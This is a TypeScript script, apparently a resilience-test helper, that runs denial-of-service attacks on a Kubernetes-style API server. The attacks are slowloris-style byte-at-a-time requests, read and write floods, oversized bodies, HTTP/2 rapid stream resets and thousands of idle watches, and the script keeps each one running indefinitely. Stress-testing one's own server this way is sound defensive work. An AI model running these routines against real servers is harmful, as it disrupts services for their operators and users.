/**
 * One attack on a server, until it is ended: `attack.ts NAME URL CA-FILE TOKEN`. Prints "on" once it is under way.
 *
 * @module
 */
import http2 from "node:http2";
import tls from "node:tls";
import { RawClient, type Server } from "../api/raw_client.ts";

const MAPS = "/api/v1/namespaces/default/configmaps";
/** Connections of an attack. */
const CONNECTIONS = 50;

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Runs without end, on several connections at once, whatever becomes of each. */
function keepOn(
  server: Server,
  once: (client: RawClient, number: number) => Promise<unknown>,
): void {
  for (let number = 0; number < CONNECTIONS; number++) {
    (async () => {
      for (;;) {
        try {
          const client = await RawClient.open(server);
          for (;;) await once(client, number);
        } catch {
          await pause(20);
        }
      }
    })();
  }
}

/** What attackers do. */
const ATTACKS: Record<string, (server: Server) => Promise<void> | void> = {
  /** Requests that are never finished, a byte at a time. */
  async slow(server) {
    const { hostname, port } = new URL(server.url);
    for (let i = 0; i < 500; i++) {
      const open = () => {
        const socket = tls.connect(
          { host: hostname, port: Number(port), ca: server.ca },
          () => socket.write("GET /api HTTP/1.1\r\nX-Slow: "),
        );
        const timer = setInterval(() => socket.write("x"), 1_000);
        socket.on("error", () => {});
        socket.on("close", () => {
          clearInterval(timer);
          setTimeout(open, 1_000);
        });
      };
      open();
      if (i % 20 === 0) await pause(20);
    }
  },
  /** One user who reads as fast as it can. */
  reads(server) {
    keepOn(
      server,
      (client) => client.ask({ method: "GET", path: `${MAPS}/honest` }),
    );
  },
  /** One user who writes as fast as it can. */
  writes(server) {
    keepOn(server, (client, number) =>
      client.ask({
        method: "PUT",
        path: `${MAPS}/noisy-${number % 4}`,
        body: JSON.stringify({
          apiVersion: "v1",
          kind: "ConfigMap",
          metadata: { name: `noisy-${number % 4}` },
          data: { text: "x".repeat(1_000), at: `${performance.now()}` },
        }),
      }));
  },
  /** Bodies just too large. */
  bodies(server) {
    const body = "x".repeat(3 * 1024 * 1024 + 1);
    keepOn(
      server,
      (client) => client.ask({ method: "POST", path: MAPS, body }),
    );
  },
  /** HTTP/2 streams that are opened and reset at once. */
  async resets(server) {
    for (;;) {
      const session = http2.connect(server.url, { ca: server.ca });
      session.on("error", () => {});
      for (let i = 0; i < 1_000 && !session.destroyed; i++) {
        try {
          const stream = session.request({
            ":path": MAPS,
            authorization: `Bearer ${server.token}`,
          });
          stream.on("error", () => {});
          stream.close(http2.constants.NGHTTP2_CANCEL);
        } catch {
          break;
        }
        if (i % 50 === 0) await pause(1);
      }
      session.destroy();
      await pause(5);
    }
  },
  /** Ten thousand watches that hear nothing. */
  async watches(server) {
    for (let i = 0; i < 100; i++) {
      const session = http2.connect(server.url, { ca: server.ca });
      session.on("error", () => {});
      for (let k = 0; k < 100; k++) {
        session.request({
          ":path": `${MAPS}?watch=1&fieldSelector=metadata.name%3Dnone`,
          authorization: `Bearer ${server.token}`,
        }).on("error", () => {}).resume();
      }
      await pause(20);
    }
    await pause(3_000);
  },
};

if (import.meta.main) {
  // A server that ends a connection has won; the attack goes on with the next.
  globalThis.addEventListener("unhandledrejection", (event) => {
    event.preventDefault();
  });
  globalThis.addEventListener("error", (event) => event.preventDefault());
  const [name = "", url = "", caFile = "", token = ""] = Deno.args;
  const server = { url, token, ca: await Deno.readTextFile(caFile) };
  const attack = ATTACKS[name]!(server);
  // What has a moment of being under way is awaited; what goes on for ever is not.
  if (name === "slow" || name === "watches") await attack;
  else await pause(500);
  console.log("on");
  await new Promise(() => {});
}
